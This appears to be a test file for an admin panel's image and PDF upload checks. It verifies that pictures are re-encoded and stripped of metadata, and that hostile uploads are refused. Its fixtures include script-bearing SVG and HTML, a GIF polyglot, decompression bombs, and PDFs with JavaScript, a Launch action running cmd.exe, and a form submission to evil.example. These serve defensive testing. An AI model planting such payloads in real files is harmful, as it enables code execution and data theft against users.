import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import { schemes } from '../../../../demo/content/schemes.ts'
import { regulationPdf } from '../../../../demo/regulation/regulation.tsx'
import { staffIn } from '../../../../tests/accounts.ts'
import { type TestApp, testApp } from '../../../../tests/harness.ts'
import { Browser } from '../../../../tests/http.ts'
import { pdf } from '../../../../tests/pdf.ts'
import { day } from '../../../lib/day.ts'
import { limits } from '../../../limits.ts'

let site: TestApp
let editor: Browser

beforeAll(async () => {
  site = await testApp()
  editor = (await staffIn(site, ['konten'])).browser
})

const picture = (name: string, bytes: Uint8Array, type = 'image/jpeg') =>
  editor.upload('/admin-api/unggah-gambar', 'file', { name, type, bytes })
const document = (bytes: Uint8Array) =>
  editor.upload('/admin-api/unggah-dokumen', 'file', { name: 'a.pdf', type: 'application/pdf', bytes })
const photo = (width = 60, height = 40) => sharp({ create: { width, height, channels: 3, background: '#0b5d3b' } })

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'
const packed = (text: string, dictionary = '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>'): [string, Buffer] => [
  dictionary,
  deflateSync(Buffer.from(`5 0 ${text}`, 'latin1')),
]

describe('a picture', () => {
  test.each(['jpeg', 'png', 'webp'] as const)('as %s is kept as WebP under its content and size', async (format) => {
    const answer = await picture(`a.${format}`, await photo().toFormat(format).toBuffer())
    expect([answer.status, answer.body]).toEqual([
      201,
      { name: expect.stringMatching(/^[0-9a-f]{32}-60x40\.webp$/), width: 60, height: 40 },
    ])
    const shown = await site.app.server.inject({
      url: `/images/${answer.body.name}`,
      headers: { accept: 'image/webp' },
    })
    expect((await sharp(shown.rawPayload).metadata()).format).toBe('webp')
  })

  test('loses what it says about where and by whom it was taken, and whatever hangs behind it', async () => {
    const withPlace = await photo()
      .withExif({ IFD0: { Artist: 'Rahasia' }, IFD3: { GPSLatitude: '6/1 10/1 0/1' } })
      .jpeg()
      .toBuffer()
    const { body } = await picture(
      'a.jpg',
      Buffer.concat([withPlace, Buffer.from('<script>pwned()</script>PK\u0003\u0004')]),
    )
    const stored = await site.files.picture(body.name, undefined, 'webp')
    expect((await sharp(stored).metadata()).exif).toBeUndefined()
    expect(stored?.includes('Rahasia')).toBe(false)
    expect(stored?.includes('pwned')).toBe(false)
  })

  test('sent twice is kept once', async () => {
    const bytes = await photo(7, 7).png().toBuffer()
    const [one, two] = [await picture('a.png', bytes), await picture('b.png', bytes)]
    expect(one.body).toEqual(two.body)
  })

  test.each([
    [
      'an SVG with a script',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script></svg>'),
    ],
    ['a web page', () => Buffer.from('<!doctype html><script>pwned()</script>')],
    ['a web page that begins like a GIF', () => Buffer.from('GIF89a/*<script>pwned()</script>*/')],
    ['a program', () => Buffer.from(`\u007fELF${'\u0001'.repeat(60)}`, 'latin1')],
    ['a PDF', () => pdf()],
    ['a GIF', () => photo().gif().toBuffer()],
    [
      'a picture cut off in the middle',
      async () => (await photo(400, 400).png({ compressionLevel: 0 }).toBuffer()).subarray(0, 2000),
    ],
    ['a JPEG’s first bytes with nothing after', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16])],
    ['a small file that unfolds to 49 megapixels', () => photo(7000, 7000).png().toBuffer()],
    ['nothing at all', () => Buffer.alloc(0)],
  ])(
    'that is %s is refused',
    async (_name, bytes) => {
      const answer = await picture('foto.jpg', await bytes())
      expect([answer.status, Object.keys(answer.body.errors)]).toEqual([422, ['file']])
    },
    120_000,
  )

  test('of more than ten million bytes is refused before it is looked at', async () => {
    expect((await picture('a.jpg', Buffer.alloc(limits.officePictureBytes + 1))).status).toBe(413)
  })
})

describe('a document', () => {
  test('is kept as it is when it can only be read', async () => {
    const [scheme] = schemes
    if (!scheme) throw new Error('no scheme')
    const regulation = await regulationPdf({ ...scheme, nama_lembaga: 'LSK', versi: 1, tanggal: day('2026-01-01') })
    for (const bytes of [pdf(), pdf(packed('<</Title(Biasa)>>')), regulation]) {
      const answer = await document(bytes)
      expect([answer.status, answer.body]).toEqual([
        201,
        { name: expect.stringMatching(/^[0-9a-f]{32}\.pdf$/), bytes: bytes.length },
      ])
      expect((await site.app.server.inject(`/dokumen/${answer.body.name}`)).rawPayload.equals(Buffer.from(bytes))).toBe(
        true,
      )
    }
  })

  test('comes in the part that is asked for, as readers of long ones do', async () => {
    const bytes = pdf()
    const { body } = await document(bytes)
    const ask = (headers: Record<string, string>) => site.app.server.inject({ url: `/dokumen/${body.name}`, headers })
    const part = await ask({ range: 'bytes=5-7' })
    expect([part.statusCode, part.body, part.headers['content-range'], part.headers['accept-ranges']]).toEqual([
      206,
      bytes.subarray(5, 8).toString(),
      `bytes 5-7/${bytes.length}`,
      'bytes',
    ])
    const outside = await ask({ range: `bytes=${bytes.length}-` })
    expect([outside.statusCode, outside.headers['content-range']]).toEqual([416, `bytes */${bytes.length}`])
    const other = await ask({ range: 'bytes=0-1', 'if-range': '"lain"' })
    expect([other.statusCode, other.rawPayload.length]).toEqual([200, bytes.length])
  })

  const script = 'Dokumen memuat skrip.'
  const attachment = 'Dokumen memuat lampiran.'
  const command = 'Dokumen memuat perintah'
  const locked = 'Dokumen terkunci password.'
  const unreadable = 'Dokumen tidak dapat dibaca.'
  test.each([
    ['a script', pdf(SCRIPT), script],
    ['a script under an escaped name', pdf('<</S/J#61vaScr#69pt/#4aS(1)>>'), script],
    ['a script that a field runs', pdf('<</AA<</K<</S /JavaScript /JS 9 0 R>>>>>>'), script],
    ['a script in a packed object', pdf(packed(SCRIPT)), script],
    [
      'a script in a packed object that does not say its type',
      pdf(packed(SCRIPT, '<</N 1/First 4/Filter[/FlateDecode]>>')),
      script,
    ],
    [
      'a script in an unpacked object stream',
      pdf(['<</Type/ObjStm/N 1/First 4>>', Buffer.from(`5 0 ${SCRIPT}`)]),
      script,
    ],
    [
      'objects packed twice',
      pdf([
        '<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]>>',
        deflateSync(deflateSync(Buffer.from(SCRIPT))),
      ]),
      unreadable,
    ],
    [
      'objects packed in a way nobody needs',
      pdf(['<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>', Buffer.from(Buffer.from(SCRIPT).toString('hex'))]),
      unreadable,
    ],
    [
      'packed objects with a predictor',
      pdf(packed(SCRIPT, '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>>>')),
      unreadable,
    ],
    [
      'packed objects that cannot be unpacked',
      pdf(['<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>', Buffer.from('rusak')]),
      unreadable,
    ],
    ['packed objects that unfold to a hundred megabytes', pdf(packed(' '.repeat(100_000_000))), unreadable],
    ['a command to start a program', pdf('<</OpenAction<</S/Launch/F(cmd.exe)>>>>'), command],
    ['a form that is sent somewhere', pdf('<</S/SubmitForm/F(https://evil.example)>>'), command],
    ['an XFA form', pdf('<</AcroForm<</XFA 9 0 R>>>>'), command],
    ['a film', pdf('<</Subtype/RichMedia>>'), command],
    ['an attachment', pdf('<</Names<</EmbeddedFiles 9 0 R>>>>'), attachment],
    ['an attachment on a page', pdf('<</Subtype/FileAttachment/FS 9 0 R>>'), attachment],
    ['an attached file of its own', pdf('<</Type/Filespec/EF<</F 9 0 R>>>>'), attachment],
    ['a password', Buffer.from(pdf().toString('latin1').replace('/Root', '/Encrypt 9 0 R/Root'), 'latin1'), locked],
    ['a script behind a beginning without end', pdf(`(stream\n${'stream '.repeat(30)})`, SCRIPT), script],
    ['a script hidden where a careless reader sees a stream', pdf(`% stream\n${SCRIPT}\n% endstream`), script],
    ['an end that was cut off', pdf().subarray(0, 200), unreadable],
    ['another kind of file', Buffer.from('PK\u0003\u0004 word document'), 'Kirim dokumen PDF.'],
    ['a web page', Buffer.from('<!doctype html>%PDF-1.7'), unreadable],
  ])('with %s is refused', async (_name, bytes, sentence) => {
    const answer = await document(bytes)
    expect([answer.status, answer.body.errors?.file?.[0]]).toEqual([422, expect.stringContaining(sentence)])
  })

  // A quadratic reader would take hours: one comparison for each pair of their millions of pieces.
  test.each([
    ['beginnings of streams', 'stream ', 1_400_000],
    ['empty streams', 'stream\nendstream ', 550_000],
    ['broken names', '/#', 4_900_000],
    ['broken objects', ' 1 0 obj', 1_200_000],
  ])('of millions of %s is answered all the same', async (_name, piece, times) => {
    const pieces = Buffer.from(piece.repeat(times))
    const between = Buffer.concat([pdf().subarray(0, 60), pieces, pdf()])
    expect((await document(between)).status).toBe(422)
    expect((await document(pdf([`<</Length ${pieces.length}>>`, pieces]))).status).toBe(201)
  })
})

test('only who keeps the content uploads: a guest logs in first, for others the address does not exist', async () => {
  const file = { name: 'a.jpg', type: 'image/jpeg', bytes: await photo().jpeg().toBuffer() }
  const { browser } = await staffIn(site, ['keuangan'])
  for (const url of ['/admin-api/unggah-gambar', '/admin-api/unggah-dokumen']) {
    const guest = new Browser(site.app)
    await guest.get('/sanctum/csrf-cookie')
    expect((await guest.upload(url, 'file', file)).status).toBe(401)
    expect((await browser.upload(url, 'file', file)).status).toBe(404)
  }
})
